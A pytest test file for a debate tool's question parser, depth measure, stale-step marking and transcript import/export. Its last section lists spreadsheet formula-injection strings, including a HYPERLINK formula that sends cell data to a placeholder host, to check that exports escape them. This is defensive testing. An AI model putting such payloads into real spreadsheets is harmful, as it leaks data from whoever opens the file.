"""The debate's pure parts: the seed's FBQ template, the questions' parser, the depth measure, the
automatic pick, stale marking, stored data, and the transcript's files both ways."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import pytest

from bonsai_ui.debate.rounds import (DEFAULT_GOALS, MAX_TEXT_CHARS, Debate, DebateError, FactQuestion, Round,
                              Step, check_text, hand_question, ngrams, overlap, parse_fact_questions, pick_automatically)
from bonsai_ui.core.prompts import load_format, render_prompt, render_task
from bonsai_ui.debate import transcript as tr

DATA = Path(__file__).parent / "data"
SEED = DATA / "QEUR23_reasoning_seed.md"
FQ = FactQuestion


# -- the seed's template -------------------------------------------------------------------------

def seed_fbq_template() -> str:
    text = SEED.read_text(encoding="utf-8")
    # The block ends at the fence followed by the next speaker (the template holds fences itself).
    block = re.search(r"\*\*\(FBQ_GVB_template\.j2\)\*\*\n\n```python\n(.*?)\n+```\n\nQEU", text, re.S)
    return block.group(1)


@pytest.mark.parametrize("fmt", ["alpaca", "think"])
def test_the_fbq_template_is_the_seeds_character_for_character(fmt):
    seed = seed_fbq_template()
    context = "AI will replace call centres.\n\nIt will not: people want people."
    rendered = render_task(load_format(fmt), "fbq", str_output_aff=context)
    assert rendered == seed.replace("{{str_output_aff}}", context)
    assert rendered.count("PARAGRAPH: ") == 2 and rendered.endswith("Please answer in English only.")


@pytest.mark.parametrize("fmt", ["alpaca", "think"])
def test_the_rebuttal_prompt_holds_side_goal_question_and_answer(fmt):
    text = render_task(load_format(fmt), "rebuttal", side="B", goal="Group B doubts it.",
                       question="Should AI teach?", answer="Yes, {always}.")
    assert "group B" in text and "Group B doubts it." in text
    assert text.endswith("QUESTION:\nShould AI teach?\n\nANSWER:\nYes, {always}.")
    # Wrapped in the format like any question, it is the instruction of a reasoning prompt.
    prompt = render_prompt(load_format(fmt), "reasoning", text)
    assert text in prompt


def test_render_task_refuses_a_wrong_variable():
    with pytest.raises(ValueError, match="takes"):
        render_task(load_format("alpaca"), "fbq", context="x")


# -- the parser ----------------------------------------------------------------------------------

# What the embedded SmolLM2-135M wrote for the seed's template (tests/data/fbq_outputs), then
# synthetic outputs for every tolerance the parser has.
REAL = sorted((DATA / "fbq_outputs").glob("*.txt"))

PARSES = [
    ("the seed's layout",
     "PARAGRAPH: AI changes work. Many lose jobs. Who pays for retraining?\n\n"
     "PARAGRAPH: Data is private. Why do firms keep it?",
     [FQ("AI changes work. Many lose jobs.", "Who pays for retraining?"),
      FQ("Data is private.", "Why do firms keep it?")]),
    ("numbered list, no PARAGRAPH, a '?' in the topic, an item without a question",
     "1. AI is fast. Is it safe?\n2. Costs fall? Not really. What drives the cost?\n3. No question here.",
     [FQ("AI is fast.", "Is it safe?"), FQ("Costs fall? Not really.", "What drives the cost?")]),
    ("bulleted, PARAGRAPH repeated, an item over two lines",
     "- PARAGRAPH: PARAGRAPH: Topic one. Question one?\n- Topic two, continued\n  on a second line. "
     "Question two?",
     [FQ("Topic one.", "Question one?"), FQ("Topic two, continued on a second line.", "Question two?")]),
    ("numbered PARAGRAPHs", "1. PARAGRAPH: A. B?\n2. PARAGRAPH: C. D?", [FQ("A.", "B?"), FQ("C.", "D?")]),
    ("bold numbered PARAGRAPH and labels", "**PARAGRAPH 1:** Topic: jobs vanish. Question: What replaces them?",
     [FQ("jobs vanish.", "What replaces them?")]),
    ("Japanese, PARAGRAPH inline",
     "PARAGRAPH: AIは仕事を変える。誰が再教育の費用を払うのか？PARAGRAPH: データは私的だ。なぜ企業は保持するのか？",
     [FQ("AIは仕事を変える。", "誰が再教育の費用を払うのか？"), FQ("データは私的だ。", "なぜ企業は保持するのか？")]),
    ("PARAGRAPH missing: paragraphs split at blank lines, a preface without a question dropped",
     "Here are the questions.\n\nFirst para. Why?\n\nSecond para. How so?",
     [FQ("First para.", "Why?"), FQ("Second para.", "How so?")]),
    ("a question repeated is kept once", "PARAGRAPH: Same question?\nPARAGRAPH: Same question?",
     [FQ("", "Same question?")]),
    ("more than five: the first five", "\n".join(f"PARAGRAPH: T{i}. Q{i}?" for i in range(7)),
     [FQ(f"T{i}.", f"Q{i}?") for i in range(5)]),
    ("a paragraph without PARAGRAPH among marked ones",
     "PARAGRAPH: Jobs go. Who pays?\n\nData leaks. Who is liable?",
     [FQ("Jobs go.", "Who pays?"), FQ("Data leaks.", "Who is liable?")]),
    ("no markers: each line ending in '?' ends a paragraph",
     "Jobs go. Who pays?\nData leaks. Who is liable?\nA closing remark.",
     [FQ("Jobs go.", "Who pays?"), FQ("Data leaks.", "Who is liable?")]),
    ("no markers: a topic line, then its question line",
     "Jobs go away.\nWho pays for retraining?\n\nData leaks.\nWho is liable?",
     [FQ("Jobs go away.", "Who pays for retraining?"), FQ("Data leaks.", "Who is liable?")]),
    ("'Question N:' items", "Question 1: Jobs go. Who pays?\nQuestion 2: Data leaks. Who is liable?",
     [FQ("Jobs go.", "Who pays?"), FQ("Data leaks.", "Who is liable?")]),
    ("bold numbers", "**1.** Jobs go. Who pays?\n**2.** Data leaks. Who is liable?",
     [FQ("Jobs go.", "Who pays?"), FQ("Data leaks.", "Who is liable?")]),
    ("no question at all", "AI is good. AI is bad.", []),
    ("empty", "", []),
    ("only question marks", "PARAGRAPH: ?\nPARAGRAPH: ？？", []),
]


@pytest.mark.parametrize("text,expected", [p[1:] for p in PARSES], ids=[p[0] for p in PARSES])
def test_parse_fact_questions(text, expected):
    assert parse_fact_questions(text) == expected


def test_real_outputs_of_the_embedded_model_are_on_file():
    assert len(REAL) >= 3


@pytest.mark.parametrize("path", REAL, ids=[p.stem for p in REAL])
def test_parse_real_outputs_of_the_embedded_model(path):
    """Each file: the model's raw text, then after a line "=== expected" one "topic | question" a line."""
    raw, _, expected = path.read_text(encoding="utf-8").partition("\n=== expected\n")
    want = [FQ(*line.split(" | ")) for line in expected.splitlines() if line.strip()]
    assert parse_fact_questions(raw) == want
    for q in want:
        assert q.question.endswith(("?", "？")) and q.question in raw


# -- depth ---------------------------------------------------------------------------------------

OVERLAPS = [
    ("who pays for retraining?", ["who pays for the retraining of workers"], 2 / 3),
    ("Who pays?", ["WHO PAYS, then?"], 1.0),
    ("A wholly new subject here", ["who pays for retraining"], 0.0),
    ("誰が払う", ["誰が払うのか"], 1.0),  # Japanese: character pairs
    ("word", ["word"], None),  # no pair to compare
    ("who pays", [], None),  # nothing earlier
]


@pytest.mark.parametrize("text,earlier,expected", OVERLAPS)
def test_overlap(text, earlier, expected):
    assert overlap(text, earlier) == (pytest.approx(expected) if expected is not None else None)


def test_ngrams_are_word_pairs_lower_cased():
    assert ngrams("AI helps, AI hurts") == {("ai", "helps"), ("helps", "ai"), ("ai", "hurts")}


PICKS = [
    ([FQ("", "who pays for retraining?"), FQ("", "what do unions say?")], ["who pays for retraining"], 1),
    ([FQ("", "new one?"), FQ("", "other new?")], [], 0),  # a tie: the first
    ([], ["x"], None),
]


@pytest.mark.parametrize("questions,earlier,expected", PICKS)
def test_the_automatic_pick_is_the_least_repeated_question(questions, earlier, expected):
    assert pick_automatically(questions, earlier) == expected


# -- the debate: steps, stale marks, rounds ------------------------------------------------------

def done(text: str, reasoning: str = "") -> Step:
    return Step(reasoning_generated=reasoning, reasoning_sent=reasoning, text=text, prompt="p", stats="s")


def two_rounds() -> Debate:
    d = Debate(goals={"A": "for AI", "B": "against AI"})
    d.rounds.append(Round("Should AI grade exams?", "A", done("Yes, it is fair.", "r1"),
                          done("No, it is opaque.", "r2"), done("PARAGRAPH: T. Who checks it?")))
    d.set_questions(0, parse_fact_questions(d.rounds[0].questions_step.text))
    d.rounds.append(Round("T. Who checks it?", "B", done("Teachers do.", "r3"), done("They cannot.", "r4")))
    return d


STALE = [  # (round, step re-run) -> the steps marked stale, as (round, kind)
    ((0, "answer"), {(0, "rebuttal"), (0, "questions"), (1, "answer"), (1, "rebuttal")}),
    ((0, "rebuttal"), {(0, "questions"), (1, "answer"), (1, "rebuttal")}),
    ((0, "questions"), {(1, "answer"), (1, "rebuttal")}),
    ((1, "answer"), {(1, "rebuttal")}),  # round 2's questions were never made: nothing to mark
    ((1, "rebuttal"), set()),
]


@pytest.mark.parametrize("where,expected", STALE)
def test_a_re_run_marks_the_later_steps_stale_and_deletes_nothing(where, expected):
    d = two_rounds()
    before = [(r.answer.text, r.rebuttal.text, r.questions_step.text) for r in d.rounds]
    assert d.mark_after(*where) == len(expected)
    stale = {(i, k) for i, r in enumerate(d.rounds) for k in ("answer", "rebuttal", "questions")
             if r.step(k).stale}
    assert stale == expected
    assert [(r.answer.text, r.rebuttal.text, r.questions_step.text) for r in d.rounds] == before


def test_next_round_swaps_the_sides_and_asks_the_picked_question():
    d = two_rounds()
    d.rounds.pop()
    assert d.rounds[0].picked == 0
    assert d.next_round(0) == 1
    assert (d.rounds[1].answerer, d.rounds[1].rebutter) == ("B", "A")
    assert d.rounds[1].question == "T. Who checks it?"


def test_next_round_over_an_existing_round_replaces_it_and_marks_the_rest_stale():
    d = two_rounds()
    d.rounds.append(Round("third", "A", done("a3"), done("b3")))
    d.next_round(0)
    assert not d.rounds[1].answer.done  # restarted
    assert d.rounds[2].answer.stale and d.rounds[2].rebuttal.stale


def test_next_round_without_a_pick_says_what_to_do():
    d = Debate(rounds=[Round("q", "A", done("a"), done("b"))])
    with pytest.raises(DebateError, match="Pick one"):
        d.next_round(0)


def test_set_questions_measures_depth_against_earlier_rounds():
    d = two_rounds()
    d.rounds[1].questions_step = done("PARAGRAPH: T. Who checks it again?")
    d.set_questions(1, parse_fact_questions(d.rounds[1].questions_step.text))
    # "who checks it" was asked in round 1: 3 of the 4 word pairs ("t who" included) repeat.
    assert d.rounds[1].depth == pytest.approx(overlap("T. Who checks it again?", d.earlier_questions(1)))
    assert 0.5 < d.rounds[1].depth < 1


# -- questions written by hand: a round can always go on ------------------------------------------

HAND = [  # what the user typed -> the question stored
    ("Who answers the deaf customer?", FQ("", "Who answers the deaf customer?")),
    ("Chatbots fail the old.  Who answers\n them?", FQ("Chatbots fail the old.", "Who answers them?")),
    ("Name the costs", FQ("", "Name the costs")),  # no question mark: kept whole
    ("AIは誰の仕事を奪うのか？", FQ("", "AIは誰の仕事を奪うのか？")),
    ("  ?  ", FQ("", "?")),
]


@pytest.mark.parametrize("text,expected", HAND)
def test_a_hand_written_question(text, expected):
    assert hand_question(text) == expected


def test_a_hand_written_question_where_the_model_wrote_none_is_picked_and_the_round_goes_on():
    d = Debate(rounds=[Round("q", "A", done("a"), done("b"), done("The answer is wrong."))])
    d.set_questions(0, parse_fact_questions(d.rounds[0].questions_step.text))
    assert d.rounds[0].questions == [] and d.rounds[0].picked is None
    assert d.put_question(0, "Who answers the deaf customer?") == 0
    assert d.rounds[0].depth is not None and d.rounds[0].questions_step.text == "The answer is wrong."
    d.next_round(0)
    assert d.rounds[1].question == "Who answers the deaf customer?"


def test_replacing_a_question_picks_it_and_marks_the_next_round_stale():
    d = two_rounds()
    d.rounds[0].questions.append(FQ("", "Who pays?"))
    assert d.put_question(0, "Who audits the grader?", replace=0) == 0
    assert [q.question for q in d.rounds[0].questions] == ["Who audits the grader?", "Who pays?"]
    assert d.rounds[1].answer.stale and d.rounds[1].rebuttal.stale
    assert d.rounds[1].answer.text == "Teachers do."  # kept


PUT_REFUSED = [
    ("", None, 0, "is empty"),
    ("x" * (MAX_TEXT_CHARS + 1), None, 0, "over the limit"),
    ("Why?", None, 5, "at most 5 questions"),
    ("Why?", 3, 2, "Pick the question to replace first"),
    ("Why?", -1, 2, "Pick the question to replace first"),
]


@pytest.mark.parametrize("text,replace,have,message", PUT_REFUSED)
def test_a_hand_written_question_is_refused_with_a_reason(text, replace, have, message):
    d = Debate(rounds=[Round("q", "A", done("a"), done("b"))])
    d.rounds[0].questions = [FQ("", f"Q{i}?") for i in range(have)]
    with pytest.raises(DebateError, match=message):
        d.put_question(0, text, replace)
    assert [q.question for q in d.rounds[0].questions] == [f"Q{i}?" for i in range(have)]


CHECKS = [("", "is empty"), ("   \n", "is empty"), ("x" * (MAX_TEXT_CHARS + 1), f"{MAX_TEXT_CHARS + 1:,} characters")]


@pytest.mark.parametrize("text,message", CHECKS)
def test_check_text_says_the_counts_and_the_limit(text, message):
    with pytest.raises(DebateError, match=re.escape(message)):
        check_text("answer", text)


# -- stored in the browser -----------------------------------------------------------------------

def test_the_stored_debate_round_trips():
    d = two_rounds()
    d.rounds[1].rebuttal.stale = True
    assert Debate.from_data(json.loads(json.dumps(d.to_data()))) == (d, "")


BAD_STORE = [
    ({"version": 99, "goals": {}, "rounds": [1]}, "version"),
    ({**Debate().to_data(), "rounds": [{"question": 1}]}, "could not be read"),
    ({**Debate().to_data(), "goals": {"A": "x"}}, "goals"),
    ("a string", "could not be read"),
]


@pytest.mark.parametrize("data,message", BAD_STORE)
def test_an_unreadable_store_gives_a_new_debate_and_says_so(data, message):
    debate, warning = Debate.from_data(data)
    assert debate == Debate() and message in warning


@pytest.mark.parametrize("data", [None, {}, Debate().to_data()])
def test_an_empty_store_is_a_new_debate_without_a_warning(data):
    assert Debate.from_data(data) == (Debate(), "")


# -- the transcript ------------------------------------------------------------------------------

def test_rows_have_the_seeds_columns_first():
    assert tr.COLUMNS[:6] == ["Step", "Goal", "Language", "QInitial", "AInitial", "FBA"]
    rows = tr.rows(two_rounds())
    assert [r[:6] for r in rows] == [
        [1, "for AI", "en", "Should AI grade exams?", "Yes, it is fair.", "No, it is opaque."],
        [2, "against AI", "en", "T. Who checks it?", "Teachers do.", "They cannot."]]
    first = dict(zip(tr.COLUMNS, rows[0]))
    assert first["Q1"] == "T.\nWho checks it?" and first["Picked"] == 1 and first["Side"] == "A"
    assert (first["AReasoningGenerated"], first["FBAReasoningSent"]) == ("r1", "r2")


ROUND_TRIPS = pytest.mark.parametrize("export,imp", [
    (tr.to_csv, tr.from_csv), (tr.to_xlsx, tr.from_xlsx), (tr.to_jsonl, tr.from_jsonl)],
    ids=["csv", "xlsx", "jsonl"])


def edited() -> Debate:
    """A debate whose rebuttal reasoning was edited, with a stale step and Japanese text."""
    d = two_rounds()
    d.rounds[0].rebuttal.reasoning_sent = "Edited: 監査できない。"
    d.rounds[1].rebuttal.stale = True
    d.goals["B"] = "AIに反対する, with \"quotes\",\nand a line break"
    return d


@ROUND_TRIPS
def test_export_then_import_restores_the_debate(export, imp):
    d = edited()
    back = imp(export(d))
    if export is tr.to_jsonl:  # JSONL keeps what training needs, not the prompts or stats
        expected = copy.deepcopy(d)
        for r in expected.rounds:
            for k in ("answer", "rebuttal", "questions"):
                r.step(k).prompt = r.step(k).stats = ""
        assert back == expected
    else:
        assert tr.rows(back) == tr.rows(d)
        assert [r.questions for r in back.rounds] == [r.questions for r in d.rounds]


def test_the_jsonl_loads_with_datasets(tmp_path):
    datasets = pytest.importorskip("datasets")
    path = tmp_path / "debate.jsonl"
    path.write_text(tr.to_jsonl(edited()), encoding="utf-8")
    ds = datasets.load_dataset("json", data_files=str(path), split="train")
    assert ds["category"] == ["answer", "rebuttal", "question_to_question", "answer", "rebuttal"]
    assert {"instruction", "input", "reasoning", "output"} <= set(ds.column_names)
    assert ds[1]["reasoning"] == "Edited: 監査できない。" and ds[1]["output"] == "No, it is opaque."
    assert ds[0]["instruction"] == "Should AI grade exams?" and ds[0]["input"] == "for AI"
    assert "CONTEXT```" in ds[2]["instruction"] and "Yes, it is fair." in ds[2]["instruction"]


def hand_written() -> Debate:
    """Round 1: the model wrote no question that could be read, the user wrote one."""
    d = Debate(goals={"A": "for AI", "B": "against AI"},
               rounds=[Round("q", "A", done("a", "r"), done("b", "s"), done("The answer is wrong."))])
    d.put_question(0, "Chatbots fail the old. Who answers them?")
    d.next_round(0)
    d.rounds[1].answer = done("Staff do.", "r2")
    return d


@ROUND_TRIPS
def test_questions_written_by_hand_survive_export_and_import(export, imp):
    d = hand_written()
    back = imp(export(d))
    assert back.rounds[0].questions == [FQ("Chatbots fail the old.", "Who answers them?")]
    assert back.rounds[0].picked == 0 and back.rounds[0].questions_step.text == "The answer is wrong."
    assert tr.rows(back) == tr.rows(d)


def test_the_jsonl_holds_the_questions_and_the_models_text_apart():
    records = [json.loads(line) for line in tr.to_jsonl(hand_written()).splitlines()]
    fbq = next(r for r in records if r["category"] == "question_to_question")
    assert fbq["output"] == "The answer is wrong."
    assert fbq["questions"] == [{"topic": "Chatbots fail the old.", "question": "Who answers them?"}]
    assert all(r["questions"] == [] for r in records if r is not fbq)


def test_a_jsonl_exported_before_questions_were_stored_parses_the_output():
    lines = [json.loads(line) for line in tr.to_jsonl(two_rounds()).splitlines()]
    for record in lines:
        del record["questions"]
    back = tr.from_jsonl("\n".join(json.dumps(r) for r in lines))
    assert back.rounds[0].questions == [FQ("T.", "Who checks it?")]


# An answer record, then a questions record whose model wrote none ("questions": []).
ANSWER_RECORD, QUESTIONS_RECORD = (line.encode() + b"\n" for line in tr.to_jsonl(
    Debate(rounds=[Round("q", "A", done("a"), Step(), done("no question here"))])).splitlines())

BAD_FILES = [
    ("x.jsonl", b'{"category": "answer"}\nnot json\n', "line 1: not a debate record"),
    ("x.jsonl", b"\n\n{oops\n", "line 3: not valid JSON"),
    ("x.jsonl", b"", "no debate records"),
    ("x.jsonl", ANSWER_RECORD + QUESTIONS_RECORD.replace(b'"questions": []', b'"questions": "Why?"'),
     "line 2: 'questions' must be a list"),
    ("x.csv", b"Step,Goal\n1,x\n", "missing columns"),
    ("x.xlsx", b"not a zip", "not an XLSX workbook"),
    ("x.txt", b"hello", "unknown file type .txt"),
    ("x.csv", b"\xff\xfe", "not UTF-8"),
]


@pytest.mark.parametrize("name,data,message", BAD_FILES)
def test_a_bad_file_is_refused_with_where_and_why(name, data, message):
    with pytest.raises(tr.TranscriptError, match=re.escape(message)):
        tr.import_bytes(name, data)


def test_a_bad_cell_is_named_by_row_and_column():
    text = tr.to_csv(two_rounds()).replace("\n2,against AI,en", "\n2,against AI,fr")
    with pytest.raises(tr.TranscriptError, match="row 3, column Language"):
        tr.from_csv(text)
    lines = tr.to_jsonl(two_rounds()).splitlines()
    lines[3] = lines[3].replace('"round": 2', '"round": 7')
    with pytest.raises(tr.TranscriptError, match="line 4: round 7 follows round 1"):
        tr.from_jsonl("\n".join(lines))


def test_default_goals_exist_in_both_languages():
    assert set(DEFAULT_GOALS) == {"en", "ja"} and all(set(g) == {"A", "B"} for g in DEFAULT_GOALS.values())


# -- hostile text: no export of ours turns text into a formula ------------------------------------

HOSTILE = [  # texts a spreadsheet would run, or that look like the apostrophe guard itself
    "=1+2", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1", "-3 pears", "@SUM(A1)",
    "\t=1", "\r=1", "'=1", "''@x", "'plain", "=", "- a list item\n- another",
]


def hostile() -> Debate:
    """Every hostile text in a text cell of the transcript: answers, rebuttals, their reasonings."""
    d = two_rounds()
    steps = [s for r in d.rounds for s in (r.answer, r.rebuttal)]
    for i, text in enumerate(HOSTILE):
        step = steps[i % len(steps)]
        if i < len(steps):
            step.text = text
        else:
            step.reasoning_sent = text
    d.rounds[0].question = HOSTILE[1]
    d.goals["A"] = "=1+2 for AI"
    return d


@ROUND_TRIPS
def test_hostile_text_round_trips_exactly(export, imp):
    d = hostile()
    back = imp(export(d))
    assert tr.rows(back) == tr.rows(d)
    assert back.rounds[0].question == HOSTILE[1] and back.rounds[0].answer.text == "=1+2"


def test_no_xlsx_cell_of_ours_is_a_formula():
    import io

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(tr.to_xlsx(hostile())))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} >= {"=1+2", HOSTILE[1]}  # the text itself, not a cached result


@pytest.mark.parametrize("text, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-3", "'-3"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("'=1", "''=1"), ("'plain", "'plain"), ("plain", "plain"), ("", ""), (3, 3),
])
def test_a_csv_cell_that_would_start_a_formula_is_kept_as_text(text, cell):
    from bonsai_ui.core.cells import csv_cell, from_csv_cell

    assert csv_cell(text) == cell
    if isinstance(text, str):
        assert from_csv_cell(cell) == text
